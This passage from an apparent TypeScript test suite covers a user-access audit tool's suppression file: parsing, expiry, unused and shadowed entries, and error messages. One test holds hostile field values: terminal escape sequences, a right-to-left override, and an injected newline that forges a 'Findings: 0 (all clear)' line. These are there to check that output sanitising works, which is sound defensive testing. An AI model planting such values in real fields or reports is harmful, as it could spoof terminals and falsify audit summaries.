  it("suppresses matching findings but keeps them in the reports; lists expired and unused entries", async () => {
    const suppressions = await suppressionsOf(
      entry("STALE@example.com", "STALE_LOGIN", "2026-07-31"),
      entry("admin", "*", "2026-12-31"),
      entry("gone@example.com", "STALE_LOGIN", "2026-12-31"),
      entry("old@example.com", "STALE_LOGIN", "2026-06-29")
    )
    const outcome = await auditOf(
      [
        person("stale", { lastLoggedInAt: daysAgo(200) }),
        person("admin", { role: { name: "Admin" }, lastLoggedInAt: daysAgo(100) }),
        person("old", { lastLoggedInAt: daysAgo(100) })
      ],
      parameters({ suppressions, suppressionsFile: "test.yaml", failOn: "medium" })
    )
    const findings = findingsOf(outcome)
    const byId = new Map(findings.map((finding) => [finding.id, finding]))
    expect(byId.get("STALE_LOGIN:stale")).toMatchObject({ suppressed: true })
    expect(byId.get("STALE_LOGIN:stale")?.suppressionReason).toBe(
      "on leave (owner secops@example.com, expires 2026-07-31, entry 1)"
    )
    expect(byId.get("STALE_LOGIN:admin")?.suppressed).toBe(true)
    expect(byId.get("PRIVILEGED_ROLE:admin")?.suppressed).toBe(true)
    expect(byId.get("STALE_LOGIN:old")?.suppressed).toBe(false)
    const run = runOf(outcome)
    expect(run.suppressions).toMatchObject({ active: 3, applied: 3 })
    expect(run.suppressions.expired.map((item) => item.user)).toEqual(["old@example.com"])
    expect(run.suppressions.unused.map((item) => item.user)).toEqual(["gone@example.com"])
    expect(run.findings.unsuppressedBySeverity).toMatchObject({ medium: 1, high: 0, info: 0 })
    const summary = formatRunSummary(run, [])
    expect(summary).toMatch(
      /expired: entry 4 \(old@example.com, STALE_LOGIN, owner secops@example.com\) ended 2026-06-29/
    )
    expect(summary).toMatch(/unused: entry 3 \(gone@example.com, STALE_LOGIN\) matched no finding/)
    // Each said once: the warnings naming them are in the JSON report, and left out of the printed list of warnings.
    expect(summary.match(/entry 4 \(old@example.com/g)).toHaveLength(1)
    expect(summary.match(/entry 3 \(gone@example.com/g)).toHaveLength(1)
    expect(run.warnings).toContain("Suppression entry 3 (gone@example.com, STALE_LOGIN) matched no finding.")
    // Without --include-deactivated none were read: not said to be none.
    expect(summary).toContain("deactivated not read without --include-deactivated")
    const withDeactivated = { ...run, parameters: { ...run.parameters, includeDeactivated: true } }
    expect(formatRunSummary(withDeactivated, [])).toContain("enabled, 0 deactivated,")
  })

  it("counts every suppressed finding, several of one code and severity included", async () => {
    const suppressions = await suppressionsOf(
      entry("a@example.com", "STALE_LOGIN", "2026-12-31"),
      entry("b@example.com", "STALE_LOGIN", "2026-12-31")
    )
    const stale = { lastLoggedInAt: daysAgo(200) }
    const outcome = await auditOf(
      [person("a", stale), person("b", stale), person("c", stale)],
      parameters({ suppressions, suppressionsFile: "test.yaml" })
    )
    const run = runOf(outcome)
    expect(run.findings).toMatchObject({ total: 3, suppressed: 2, unsuppressedBySeverity: { medium: 1 } })
    expect(run.suppressions).toMatchObject({ active: 2, applied: 2 })
  })

  it("names the first 20 expired and unused entries in the summary and warnings, counts the rest, and keeps all in the JSON report", async () => {
    const entries = [
      ...Array.from({ length: 21 }, (_, index) => entry(`old${index}@example.com`, "*", "2026-06-01")),
      ...Array.from({ length: 25 }, (_, index) => entry(`gone${index}@example.com`, "STALE_LOGIN", "2026-12-31"))
    ]
    const suppressions = await suppressionsOf(...entries)
    const run = runOf(
      await auditOf(
        [person("kept", { lastLoggedInAt: daysAgo(200) })],
        parameters({ suppressions, suppressionsFile: "s.yaml" })
      )
    )
    expect(run.suppressions.expired).toHaveLength(21)
    expect(run.suppressions.unused).toHaveLength(25)
    const summary = formatRunSummary(run, [])
    expect(summary.match(/ - expired: entry/g)).toHaveLength(20)
    expect(summary).toContain("  …and 1 more expired entry: the JSON report's suppressions.expired lists all.")
    expect(summary.match(/ - unused: entry/g)).toHaveLength(20)
    expect(summary).toContain("unused: entry 41 (gone19@example.com, STALE_LOGIN)")
    expect(summary).not.toContain("gone20@example.com")
    expect(summary).toContain("  …and 5 more unused entries: the JSON report's suppressions.unused lists all.")
    expect(run.warnings.filter((warning) => warning.endsWith("matched no finding."))).toHaveLength(20)
    expect(run.warnings.filter((warning) => warning.endsWith("no longer applies."))).toHaveLength(20)
    expect(run.warnings).toContain("…and 5 more unused entries: the JSON report's suppressions.unused lists all.")
  })

  it("prints the file's text in its entries so that it cannot drive the terminal or add a line to the summary", async () => {
    // JSON strings in YAML: the escape character, a bell, line breaks and U+202E, as a pasted ticket can hold.
    const hostile = (user: string, finding: string, owner: string, expires: string) =>
      `  - user: ${JSON.stringify(user)}\n    finding: "${finding}"\n    reason: on leave\n` +
      `    owner: ${JSON.stringify(owner)}\n    expires: ${expires}\n`
    const suppressions = await suppressionsOf(
      hostile(
        "old@example.com\u0007",
        "STALE_LOGIN",
        "sec\u001b]0;owned\u0007ops\nFindings: 0 (all clear)",
        "2026-06-29"
      ),
      hostile("gone\u001b[2K@example.com\r\u202e", "STALE_LOGIN", "secops@example.com", "2026-12-31"),
      hostile("STALE@example.com", "*", "secops@example.com", "2026-12-31"),
      hostile("stale\u001b[8m@example.com", "STALE_LOGIN", "secops@example.com", "2026-12-31"),
      // The second never applies while the first does: a warning names both.
      hostile("hidden\u001b[8m@example.com", "STALE_LOGIN", "secops@example.com", "2026-12-31"),
      hostile("hidden\u001b[8m@example.com", "STALE_LOGIN", "secops@example.com", "2026-12-31"),
      // Two accounts hold this address in different cases: a warning names the entry.
      hostile("twin\u0007@example.com", "STALE_LOGIN", "secops@example.com", "2026-12-31")
    )
    const run = runOf(
      await auditOf(
        [
          person("old", { lastLoggedInAt: daysAgo(100) }),
          person("stale", { lastLoggedInAt: daysAgo(200) }),
          person("hidden", { email: "hidden\u001b[8m@example.com", lastLoggedInAt: daysAgo(200) }),
          person("twin1", { email: "twin\u0007@example.com", lastLoggedInAt: daysAgo(200) }),
          person("twin2", { email: "TWIN\u0007@example.com", lastLoggedInAt: daysAgo(200) })
        ],
        parameters({ suppressions, suppressionsFile: "s.yaml" })
      )
    )
    // The JSON report keeps the entries as the file held them.
    expect(run.suppressions.unused.map((item) => item.user)).toContain("gone\u001b[2K@example.com\r\u202e")
    // As the email and the JSON report's warnings say them.
    expect(run.warnings).toContain(
      "Suppression entry 1 (old@example.com\ufffd, STALE_LOGIN) expired on 2026-06-29 and no longer applies."
    )
    expect(run.warnings).toContain(
      "Suppression entry 2 (gone\ufffd[2K@example.com \ufffd, STALE_LOGIN) matched no finding."
    )
    const summary = formatRunSummary(run, [])
    expect(summary).toContain("owner sec\ufffd]0;owned\ufffdops Findings: 0 (all clear))")
    expect(summary).toContain("unused: entry 2 (gone\ufffd[2K@example.com \ufffd, STALE_LOGIN)")
    expect(summary).toContain("expired: entry 1 (old@example.com\ufffd, STALE_LOGIN, owner")
    expect(summary).toContain("Suppression entry 7 (twin\ufffd@example.com, STALE_LOGIN) suppressed findings of 2")
    expect(summary).toContain("Suppression entry 6 (hidden\ufffd[8m@example.com, STALE_LOGIN) is never used while")
    // biome-ignore lint/suspicious/noControlCharactersInRegex: the characters a terminal acts on are what is looked for.
    expect(summary).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/)
    expect(summary.split("\n").filter((line) => line.startsWith("Findings:"))).toHaveLength(1)
  })

  it("leaves suppressed findings out of the news: new ones and resolved ones alike", async () => {
    const suppressions = await suppressionsOf(
      entry("gone@example.com", "STALE_LOGIN", "2026-12-31"),
      entry("accepted@example.com", "STALE_LOGIN", "2026-12-31")
    )
    const stale = { lastLoggedInAt: daysAgo(200) }
    await auditOf([person("kept", stale), person("gone", stale)], parameters({ suppressions }))
    const second = await auditOf(
      [person("kept", stale), person("accepted", stale), person("open", stale)],
      parameters({ suppressions })
    )
    expect(second.run.changes).toMatchObject({ new: 2, newUnsuppressed: 1, unchanged: 1, resolvedUnsuppressed: 0 })
    expect(second.run.changes.resolved.map((finding) => finding.id)).toEqual(["STALE_LOGIN:gone"])
  })

  it("prints counts most severe first, each code found, and every resolved finding, suppressed or not", async () => {
    const suppressions = await suppressionsOf(entry("gone@example.com", "STALE_LOGIN", "2026-12-31"))
    const stale = { lastLoggedInAt: daysAgo(200) }
    await auditOf([person("kept", stale), person("gone", stale)], parameters({ suppressions }))
    const second = await auditOf([person("kept", stale)], parameters({ suppressions }))
    const summary = formatRunSummary(second.run, [])
    expect(summary).toContain("Findings: 1 (0 critical, 0 high, 1 medium, 0 low, 0 info)")
    expect(summary).toContain(`  ${"STALE_LOGIN".padEnd(22)}${"1".padStart(8)}`)
    expect(summary).toContain("Changes since the previous report: 0 new, 1 unchanged, 1 resolved")
    // Deactivated users sent though not asked for are counted, not said to be unread.
    const sentAnyway = { ...second.run, users: { ...second.run.users, deactivated: 2 } }
    expect(formatRunSummary(sentAnyway, [])).toContain("enabled, 2 deactivated,")
  })

  it("counts a finding suppressed last time and not now as news for --email on-change", async () => {
    const suppressions = await suppressionsOf(entry("stale@example.com", "STALE_LOGIN", "2026-12-31"))
    const users = [person("stale", { lastLoggedInAt: daysAgo(200) })]
    await auditOf(users, parameters({ suppressions }))
    // The exception is gone (expired, or taken out of the file): nothing new, nothing resolved, yet news.
    const second = await auditOf(users)
    expect(second.run.changes).toMatchObject({ newUnsuppressed: 0, resolvedUnsuppressed: 0, unsuppressedAgain: 1 })
    expect(decideEmail("on-change", second.run)).toEqual({ _tag: "Send", reason: "1 finding is no longer suppressed" })
    // Still suppressed: no news.
    await auditOf(users, parameters({ suppressions }))
    const quiet = await auditOf(users, parameters({ suppressions }))
    expect(quiet.run.changes.unsuppressedAgain).toBe(0)
    expect(decideEmail("on-change", quiet.run)._tag).toBe("Skip")
  })

  it("does not count as no longer suppressed a finding this run leaves out of its reports", async () => {
    const suppressions = await suppressionsOf(entry("a@example.com", "NEVER_LOGGED_IN", "2026-12-31"))
    const others = Array.from({ length: 10 }, (_, index) => `user-${index}`)
    await auditOf(
      [person("a", { lastLoggedInAt: null }), ...others.map((id) => person(id))],
      parameters({ suppressions })
    )
    // Now no user has a login: LOGIN_DATA_MISSING replaces every NEVER_LOGGED_IN, a's among them.
    const second = await auditOf(["a", ...others].map((id) => person(id, { lastLoggedInAt: null })))
    expect(findingsOf(second).map((finding) => finding.finding)).toEqual(["LOGIN_DATA_MISSING"])
    expect(second.run.changes).toMatchObject({ unsuppressedAgain: 0, newUnsuppressed: 1 })
  })

  it("lists as unused an entry that matched only findings this run leaves out of its reports", async () => {
    const suppressions = await suppressionsOf(
      entry("a@example.com", "NEVER_LOGGED_IN", "2026-12-31"),
      entry("b@example.com", "*", "2026-12-31"),
      entry("c@example.com", "STALE_LOGIN", "2026-12-31"),
      entry("gone@example.com", "PENDING_STATUS", "2026-12-31")
    )
    // No user has a login: LOGIN_DATA_MISSING replaces every NEVER_LOGGED_IN. b is also privileged, which stays.
    const others = Array.from({ length: 10 }, (_, index) => person(`user-${index}`, { lastLoggedInAt: null }))
    const outcome = await auditOf(
      [
        person("a", { lastLoggedInAt: null }),
        person("b", { lastLoggedInAt: null, role: { name: "Admin" } }),
        ...others
      ],
      parameters({ suppressions, suppressionsFile: "test.yaml" })
    )
    expect(findingsOf(outcome).map((finding) => finding.finding)).toEqual(["LOGIN_DATA_MISSING", "PRIVILEGED_ROLE"])
    const run = runOf(outcome)
    expect(run.suppressions.unused.map((item) => item.user)).toEqual([
      "a@example.com",
      "c@example.com",
      "gone@example.com"
    ])
    expect(run.suppressions).toMatchObject({ active: 4, applied: 1 })
    // Without login times no run can tell whether a login entry is still needed: removed, it lets findings back.
    const keep = "but Panther sent no login times (LOGIN_DATA_MISSING): keep it until a run with them says"
    const summary = formatRunSummary(run, [])
    expect(summary).toContain(`unused: entry 1 (a@example.com, NEVER_LOGGED_IN) matched no finding, ${keep}`)
    expect(summary).toContain(`unused: entry 3 (c@example.com, STALE_LOGIN) matched no finding, ${keep}`)
    expect(summary).toMatch(/unused: entry 4 \(gone@example.com, PENDING_STATUS\) matched no finding$/m)
    expect(run.warnings).toContain(
      `Suppression entry 3 (c@example.com, STALE_LOGIN) matched no finding, ${keep} whether it is used.`
    )
    expect(run.warnings).toContain("Suppression entry 4 (gone@example.com, PENDING_STATUS) matched no finding.")
    // Listed under the suppressions, neither is said again among the summary's warnings, with its login wording too.
    expect(summary).not.toContain("Suppression entry 3 (c@example.com")
    expect(summary).not.toContain("Suppression entry 4 (gone@example.com")
  })

  it("names an entry that an earlier one for the same user and finding always comes before", async () => {
    const suppressions = await suppressionsOf(
      entry("stale@example.com", "STALE_LOGIN", "2026-08-31"),
      entry("STALE@example.com", "STALE_LOGIN", "2026-12-31"),
      entry("other@example.com", "*", "2026-12-31"),
      entry("other@example.com", "NEVER_LOGGED_IN", "2026-12-31")
    )
    const outcome = await auditOf(
      [person("stale", { lastLoggedInAt: daysAgo(200) }), person("other", { lastLoggedInAt: daysAgo(300) })],
      parameters({ suppressions })
    )
    const warnings = outcome.run.warnings.join("\n")
    expect(warnings).toContain("Suppression entry 2 (STALE@example.com, STALE_LOGIN) is never used while entry 1")
    expect(warnings).toContain("Suppression entry 4 (other@example.com, NEVER_LOGGED_IN) is never used while entry 3")
    // Not also called unused, which would send someone looking for a user who is there.
    expect(warnings).not.toContain("Suppression entry 2 (STALE@example.com, STALE_LOGIN) matched no finding")
    expect(warnings).not.toContain("Suppression entry 4 (other@example.com, NEVER_LOGGED_IN) matched no finding")
  })

  it("says only the later of two entries for one user and finding is never used, not the one that applies", async () => {
    const entries = await suppressionsOf(
      entry("stale@example.com", "STALE_LOGIN", "2026-08-31"),
      entry("stale@example.com", "STALE_LOGIN", "2026-12-31")
    )
    const matcher = makeSuppressionMatcher(entries, AS_OF)
    expect(matcher.match({ finding: "STALE_LOGIN", userId: "stale", email: "stale@example.com" })?.entry).toBe(1)
    const { shadowed, unused } = matcher.outcome()
    expect(shadowed.map(({ entry, by }) => [entry.entry, by.entry])).toEqual([[2, 1]])
    expect(unused).toEqual([])
  })

  it("lists entries never used in the order of the file, however they were found to be", async () => {
    const entries = await suppressionsOf(
      entry("stale", "STALE_LOGIN", "2026-12-31"),
      entry("stale@example.com", "STALE_LOGIN", "2026-12-31"),
      entry("other@example.com", "STALE_LOGIN", "2026-12-31"),
      entry("other@example.com", "STALE_LOGIN", "2026-12-31")
    )
    const matcher = makeSuppressionMatcher(entries, AS_OF)
    matcher.match({ finding: "STALE_LOGIN", userId: "stale", email: "stale@example.com" })
    matcher.match({ finding: "STALE_LOGIN", userId: "other", email: "other@example.com" })
    // Entry 4 repeats entry 3 as written; entry 2 names by email the user entry 1 names by id.
    expect(matcher.outcome().shadowed.map(({ entry, by }) => [entry.entry, by.entry])).toEqual([
      [2, 1],
      [4, 3]
    ])
  })

  it("applies the earlier of two entries naming one user by email and by id, and calls neither unused", async () => {
    const entries = await suppressionsOf(
      entry("STALE@example.com", "STALE_LOGIN", "2026-12-31"),
      entry("stale", "*", "2026-07-15")
    )
    const matcher = makeSuppressionMatcher(entries, AS_OF)
    expect(matcher.match({ finding: "STALE_LOGIN", userId: "stale", email: "stale@example.com" })?.entry).toBe(1)
    const { shadowed, unused } = matcher.outcome()
    expect(shadowed.map(({ entry, by }) => [entry.entry, by.entry])).toEqual([[2, 1]])
    expect(unused).toEqual([])
  })

  it("does not call never used a wider entry that an earlier one came before for one finding but that suppressed another", async () => {
    const entries = await suppressionsOf(
      entry("STALE@example.com", "STALE_LOGIN", "2026-12-31"),
      entry("stale", "*", "2026-12-31")
    )
    const matcher = makeSuppressionMatcher(entries, AS_OF)
    const user = { userId: "stale", email: "stale@example.com" }
    expect(matcher.match({ finding: "STALE_LOGIN", ...user })?.entry).toBe(1)
    expect(matcher.match({ finding: "PRIVILEGED_ROLE", ...user })?.entry).toBe(2)
    const { shadowed, unused } = matcher.outcome()
    expect(shadowed).toEqual([])
    expect(unused).toEqual([])
  })

  it("warns when one entry suppressed the findings of two accounts whose emails differ only in case", async () => {
    const suppressions = await suppressionsOf(
      entry("Pat@example.com", "STALE_LOGIN", "2026-12-31"),
      entry("solo@example.com", "*", "2026-12-31")
    )
    const stale = { lastLoggedInAt: daysAgo(200) }
    const outcome = await auditOf(
      [
        person("pat-1", { ...stale, email: "pat@example.com" }),
        person("pat-2", { ...stale, email: "PAT@example.com" }),
        person("solo", { ...stale, role: { name: "Admin" } })
      ],
      parameters({ suppressions })
    )
    const warnings = outcome.run.warnings.join("\n")
    expect(warnings).toContain(
      "Suppression entry 1 (Pat@example.com, STALE_LOGIN) suppressed findings of 2 accounts (pat-1, pat-2): " +
        "if only one is meant, name it by its user id."
    )
    // Two findings of one account are one account.
    expect(warnings).not.toContain("Suppression entry 2")
  })

  it("takes records without an id for one account by their email in any case, as their findings' ids do", async () => {
    // Such records share a finding id by email: a warning to name one of them by its user id could not be acted on.
    const entries = await suppressionsOf(entry("Pat@example.com", "STALE_LOGIN", "2026-12-31"))
    const matcher = makeSuppressionMatcher(entries, AS_OF)
    for (const email of ["pat@example.com", "PAT@example.com"]) {
      expect(matcher.match({ finding: "STALE_LOGIN", userId: null, email })?.entry).toBe(1)
    }
    expect(matcher.outcome().spread).toEqual([])
  })

  it("matches an entry naming a user id in another case than the API's, as it does an email", async () => {
    const entries = await suppressionsOf(
      entry("8f3a-upper", "STALE_LOGIN", "2026-12-31"),
      entry("LOWER-77C1", "STALE_LOGIN", "2026-12-31")
    )
    const matcher = makeSuppressionMatcher(entries, AS_OF)
    const emailOf = (id: string) => ({ email: `${id}@example.com` })
    expect(matcher.match({ finding: "STALE_LOGIN", userId: "8F3A-UPPER", ...emailOf("a") })?.entry).toBe(1)
    expect(matcher.match({ finding: "STALE_LOGIN", userId: "lower-77c1", ...emailOf("b") })?.entry).toBe(2)
    expect(matcher.outcome().unused).toEqual([])
  })

  it("cuts each account id of 100 KB that warning names, never between the halves of an emoji", async () => {
    const suppressions = await suppressionsOf(entry("Pat@example.com", "STALE_LOGIN", "2026-12-31"))
    const stale = { lastLoggedInAt: daysAgo(200) }
    const huge = (label: string) => `${label} ${"🐙".repeat(50_000)}`
    const outcome = await auditOf(
      [
        person(huge("pat-1"), { ...stale, email: "pat@example.com" }),
        person(huge("pat-2"), { ...stale, email: "PAT@example.com" })
      ],
      parameters({ suppressions })
    )
    const octopus = "🐙".repeat(56)
    expect(outcome.run.warnings).toContain(
      `Suppression entry 1 (Pat@example.com, STALE_LOGIN) suppressed findings of 2 accounts (pat-1 ${octopus}…, ` +
        `pat-2 ${octopus}…): if only one is meant, name it by its user id.`
    )
  })

  it("holds a date-only expiry through the end of that day", async () => {
    const [entryOf] = await Effect.runPromise(parseSuppressions(file(entry("a", "*", "2026-06-30")), "f"))
    expect(entryOf?.expiresAt).toBe(Date.parse("2026-07-01T00:00:00Z"))
    expect((entryOf?.expiresAt ?? 0) > AS_OF).toBe(true)
    expect(AS_OF + DAY > (entryOf?.expiresAt ?? 0)).toBe(true)
  })

  it("stops suppressing at the first instant after its last day, and lists the entry as expired from then", async () => {
    const entries = await suppressionsOf(entry("a@example.com", "STALE_LOGIN", "2026-06-30"))
    const finding = { finding: "STALE_LOGIN", userId: "a", email: "a@example.com" } as const
    const endOfDay = Date.parse("2026-07-01T00:00:00Z")
    const holding = makeSuppressionMatcher(entries, endOfDay - 1)
    expect(holding.match(finding)?.entry).toBe(1)
    expect(holding.outcome()).toMatchObject({ active: 1, expired: [] })
    const ended = makeSuppressionMatcher(entries, endOfDay)
    expect(ended.match(finding)).toBeUndefined()
    expect(ended.outcome().active).toBe(0)
    expect(ended.outcome().expired.map((item) => item.entry)).toEqual([1])
  })

  it.each([
    ["not: [a list]", "{suppressions: [...]}"],
    ["suppressions: {}", "must be a list"],
    [file("  - user: a\n    finding: STALE_LOGIN\n    reason: r\n    owner: o\n"), "entry 1: `expires` is required"],
    [file(entry("a", "STALE", "2027-01-01")), 'entry 1 (a): finding "STALE" is not a finding code'],
    [
      file(entry("a", "stale_login", "2027-01-01")),
      'finding "stale_login" is not a finding code (codes are written in capitals: STALE_LOGIN); use one of'
    ],
    [file(entry("a", "*", "2027-02-30")), 'entry 1 (a): expires "2027-02-30" is not a date'],
    [
      file(
        `${entry("a", "*", "2027-01-01")}  - user: b\n    finding: "*"\n    reason: r\n    owner: o\n    expires: 2027-01-01\n    expiry: 2027\n`
      ),
      "entry 2: unknown field expiry"
    ],
    [
      file("  - user: ''\n    finding: '*'\n    reason: r\n    owner: o\n    expires: 2027-01-01\n"),
      "`user` is required"
    ],
    // A second list under a mistyped key would go unread.
    [
      `${file(entry("a", "*", "2027-01-01"))}suppresion:\n${entry("b", "*", "2027-01-01")}`,
      'unknown key "suppresion" beside `suppressions`'
    ],
    // Given, but not as text: not called missing.
    [file(entry("a", "*", "20270331")), "entry 1: `expires` must be text, not the number 20270331: write the date as"],
    [file(entry("12345", "*", "2027-01-01")), "entry 1: `user` must be text, not the number 12345: put it in quotes"],
    [
      file(
        "  - user: a\n    finding: [STALE_LOGIN, NEVER_LOGGED_IN]\n    reason: r\n    owner: o\n    expires: 2027-01-01\n"
      ),
      'entry 1: `finding` must be text, not a list: write one entry per finding, or "*" for all'
    ],
    [
      file("  - user: a\n    finding: '*'\n    reason: true\n    owner: o\n    expires: 2027-01-01\n"),
      "`reason` must be text"
    ],
    // Only space, quoted so YAML keeps it: as empty as a field left out, and no reason any report could show.
    [
      file("  - user: a\n    finding: '*'\n    reason: '   '\n    owner: o\n    expires: 2027-01-01\n"),
      "`reason` is required"
    ],
    ["suppressions: [", "not valid YAML or JSON"],
    // A quote left open runs on to the end of the file, where YAML reports it: the place to fix is where it opened.
    [
      file("  - user: \"a@example.com\n    finding: '*'\n    reason: r\n    owner: o\n    expires: 2027-01-01\n"),
      'not valid YAML or JSON: the " at line 2, column 11 opens a quoted value that is never closed (YAML read on to ' +
        "line 7, column 1 looking for its end)"
    ],
    [
      file("  - user: a\n    finding: '*'\n    reason: 'it''s\n    owner: o\n    expires: 2027-01-01\n"),
      "the ' at line 4, column 13 opens a quoted value that is never closed"
    ],
    ['\n"suppressions:\n  - user: a\n', 'the " at line 2, column 1 opens a quoted value that is never closed'],
    // Two documents (a `---` between lists, as from two files joined): said in the file's terms, not the library's.
    [
      `${file("  - user: a\n    finding: '*'\n    reason: r\n    owner: o\n    expires: 2027-01-01\n")}---\n${file("  - user: b\n    finding: '*'\n    reason: r\n    owner: o\n    expires: 2027-01-01\n")}`,
      "it holds more than one YAML document (line 7 is a `---` line starting another): put every entry in the " +
        "one `suppressions` list"
    ],
    // This tool's own reports and workbooks, given in place of the suppressions file.
    [
      '{"run": {"runId": "r"}, "findings": []}',
      "it is a findings report (user-audit-<stamp>.json), not a suppressions file, which holds {suppressions: [...]}"
    ],
    [
      // A cell holding ": " would stop YAML before any shape is read.
      "\uFEFFprivileged,role_name,family_name,given_name,notes\r\ntrue,Admin,Lee,Kim,note: keep\r\n",
      "it is an access review workbook (access-review-<stamp>.csv), not a suppressions file"
    ],
    [
      "\uFEFFseverity,finding,user_id,email\r\nhigh,STALE_LOGIN,u1,kim@example.com\r\n",
      "it is a findings report (user-audit-<stamp>.csv), not a suppressions file"
    ],
    ['{"format": "panther-user-audit-export/1", "files": []}', "it is an export's manifest.json, not a suppressions"],
    // Deeper than the YAML parser's stack reaches: said of the file, not in V8's words.
    [
      `suppressions:\n  - user: a\n    reason: ${"[".repeat(20_000)}${"]".repeat(20_000)}\n`,
      "a value is nested too deeply to read (at line 3, column"
    ],
    [
      file("  - user: a\n    finding: *\n    reason: r\n    owner: o\n    expires: 2027-01-01\n"),
      'write finding: "*" with the quotes'
    ],
    // A bare * elsewhere is not told to become a finding wildcard.
    [
      file("  - user: *\n    finding: '*'\n    reason: r\n    owner: o\n    expires: 2027-01-01\n"),
      "line 2, column 11:"
    ],
    [file("  - {user: *, finding: STALE_LOGIN}\n"), "there is no wildcard for users"],
    [file("  - user: a\n    finding: '*'\n    reason: *\n    owner: o\n"), "(put the reason in quotes)"],
    [file(entry('"*"', "*", "2027-01-01")), 'entry 1: user "*" matches no one; an entry names one user by email or'],
    // A run-level finding is of no user: an entry would be listed as unused for ever.
    [
      file(entry("a", "LOGIN_DATA_MISSING", "2027-01-01")),
      "entry 1 (a): LOGIN_DATA_MISSING is about the whole run, not one user, so no entry can suppress it; use one of"
    ]
  ])("rejects an invalid file, naming the entry: %s", async (text, message) => {
    const error = await Effect.runPromise(Effect.flip(parseSuppressions(text, "bad.yaml")))
    expect(error._tag).toBe("ConfigurationError")
    expect(error.message).toContain(message)
    expect(error.message).toContain("suppressions file bad.yaml")
  })

  it("names the line an invalid entry starts on, so entry 4 of a long file is found without counting", async () => {
    const valid = entry("a", "*", "2027-01-01")
    // A comment and a blank line among the entries, as a file edited over months has.
    const text = file(
      `${valid}${valid}  # left until the audit in March\n\n${valid}  - user: d\n    finding: STALE_LOGIN\n    reason: r\n` +
        "    owner: o\n"
    )
    const error = await Effect.runPromise(Effect.flip(parseSuppressions(text, "long.yaml")))
    expect(error.message).toContain("suppressions file long.yaml: line 19, entry 4: `expires` is required")
    const json = `{"suppressions": [\n  {"user": "a", "finding": "*", "reason": "r", "owner": "o", "expires": "2027-01-01"},\n  {"user": "b", "finding": "STALE", "reason": "r", "owner": "o", "expires": "2027-01-01"}\n]}\n`
    const jsonError = await Effect.runPromise(Effect.flip(parseSuppressions(json, "s.json")))
    expect(jsonError.message).toContain(
      'suppressions file s.json: line 3, entry 2 (b): finding "STALE" is not a finding code'
    )
  })

  it("parses a text read again unchanged once (a run reads it twice), a changed one anew, and keeps no error", async () => {
    const text = file(entry("a", "*", "2027-01-01"))
    const first = await Effect.runPromise(parseSuppressions(text, "first.yaml"))
    expect(await Effect.runPromise(parseSuppressions(text, "again.yaml"))).toBe(first)
    const changed = await Effect.runPromise(parseSuppressions(file(entry("b", "*", "2027-01-01")), "first.yaml"))
    expect(changed.map((item) => item.user)).toEqual(["b"])
    // An error is worked out each time, naming the file as given then.
    const bad = file(entry("a", "NO_SUCH_CODE", "2027-01-01"))
    for (const name of ["one.yaml", "two.yaml"]) {
      const error = await Effect.runPromise(Effect.flip(parseSuppressions(bad, name)))
      expect(error.message).toContain(`suppressions file ${name}: line 2, entry 1 (a): finding "NO_SUCH_CODE"`)
    }
  })

  it("holds an expiry given as a full timestamp until that instant", async () => {
    const [entryOf] = await suppressionsOf(entry("a", "*", "2026-06-30T18:00:00Z"))
    expect(entryOf?.expiresAt).toBe(Date.parse("2026-06-30T18:00:00Z"))
  })

  it.each([
    ["a %YAML 1.1 file", "%YAML 1.1\n---\n", "2026-06-30T06:00:00Z"],
    ["a !!timestamp tag", "", "!!timestamp 2026-06-30T06:00:00Z"]
  ])("stops suppressing at an expiry instant that YAML could read as a timestamp: %s", async (_, head, expires) => {
    const text = `${head}${file(entry("stale@example.com", "STALE_LOGIN", expires))}`
    const suppressions = await Effect.runPromise(parseSuppressions(text, "test.yaml"))
    expect(suppressions.map((item) => [item.expires, item.expiresAt])).toEqual([
      ["2026-06-30T06:00:00Z", Date.parse("2026-06-30T06:00:00Z")]
    ])
    // Six hours before the audit's as-of: not "through 2026-06-30".
    const outcome = await auditOf([person("stale", { lastLoggedInAt: daysAgo(200) })], parameters({ suppressions }))
    expect(findingsOf(outcome).map((finding) => [finding.id, finding.suppressed])).toEqual([
      ["STALE_LOGIN:stale", false]
    ])
    expect(runOf(outcome).suppressions.expired.map((item) => item.expires)).toEqual(["2026-06-30T06:00:00Z"])
  })

  it("reads a value with space around it, as a quoted YAML or a JSON value may have, as the value itself", async () => {
    const entries = await Effect.runPromise(
      parseSuppressions(
        JSON.stringify({
          suppressions: [
            {
              user: " Pat@example.com ",
              finding: " STALE_LOGIN ",
              reason: " r ",
              owner: " o ",
              expires: " 2027-01-01 "
            }
          ]
        }),
        "s.json"
      )
    )
    expect(entries).toEqual([
      {
        entry: 1,
        user: "Pat@example.com",
        finding: "STALE_LOGIN",
        reason: "r",
        owner: "o",
        expires: "2027-01-01",
        expiresAt: Date.parse("2027-01-02T00:00:00Z")
      }
    ])
  })

  it("reads a list whose every entry was removed or commented out as no entries, not as a broken file", async () => {
    // What is left once the last exception is taken out: YAML reads the empty list as null, and the nightly run
    // stopped with exit 2 until someone wrote `[]`.
    for (const text of [
      "suppressions:\n",
      "suppressions:\n  # - user: a@example.com\n  #   finding: STALE_LOGIN\n",
      "suppressions: ~\n",
      '{"suppressions": null}'
    ]) {
      expect(await Effect.runPromise(parseSuppressions(text, "emptied.yaml"))).toEqual([])
    }
  })

  it("reads JSON too", async () => {
    const entries = await Effect.runPromise(
      parseSuppressions(
        JSON.stringify({ suppressions: [{ user: "a", finding: "*", reason: "r", owner: "o", expires: "2027-01-01" }] }),
        "s.json"
      )
    )
    expect(entries).toHaveLength(1)
  })
})

describe("controls", () => {
  it("lists the controls each finding gives evidence for", async () => {
    const outcome = await auditOf([
      person("stale", { lastLoggedInAt: daysAgo(200), role: { name: "Admin" } }),
      person("pending", { status: "RESET_REQUIRED" })
    ])
    const byId = new Map(findingsOf(outcome).map((finding) => [finding.id, finding.controls]))
    expect(byId.get("STALE_LOGIN:stale")).toEqual([
      "CIS Controls v8 5.3",
      "PCI DSS v4.0.1 8.2.6",
      "NIST SP 800-53 AC-2(3)",
      "SOC 2 CC6.2",
      "ISO/IEC 27001:2022 A.5.18"
    ])
    expect(byId.get("PRIVILEGED_ROLE:stale")).toEqual([
      "ISO/IEC 27001:2022 A.8.2",
      "SOC 2 CC6.3",
      "PCI DSS v4.0.1 7.2.4"
    ])
    expect(byId.get("PENDING_STATUS:pending")).toEqual(["SOC 2 CC6.2", "ISO/IEC 27001:2022 A.5.18"])
    expect(CONTROLS.COMPROMISED_ACCOUNT).toEqual(["SOC 2 CC6.2", "ISO/IEC 27001:2022 A.5.18"])
